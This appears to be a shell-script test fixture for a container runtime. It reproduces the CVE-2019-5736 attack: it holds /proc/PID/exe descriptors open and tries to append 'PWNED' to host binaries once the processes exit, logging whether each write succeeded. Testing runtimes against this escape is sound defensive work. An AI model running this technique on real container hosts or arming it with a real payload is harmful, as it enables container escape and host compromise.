# CVE-2019-5736's attacker, run in a container as `sh -c` (crates/runtime/tests/hostile_binary.rs,
# crates/cela/tests/hostile_containers.rs): for every process whose executable is not busybox,
# open /proc/PID/exe, wait for the process to end, then try to append to the file. Logs
# `opened EXE` and `wrote EXE` or `refused EXE` to /tmp/log.
touch /tmp/log
while :; do
  for p in /proc/[0-9]*; do
    e=$(readlink "$p/exe" 2>/dev/null) || continue
    case "$e" in /bin/busybox|"") continue;; esac
    grep -qx "$p" /tmp/seen 2>/dev/null && continue
    echo "$p" >> /tmp/seen
    {
      echo "opened $e" >> /tmp/log
      while [ -e "$p" ]; do usleep 10000; done
      if (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then r=wrote; else r=refused; fi
      echo "$r $e" >> /tmp/log
    } 3<"$p/exe"
  done
done
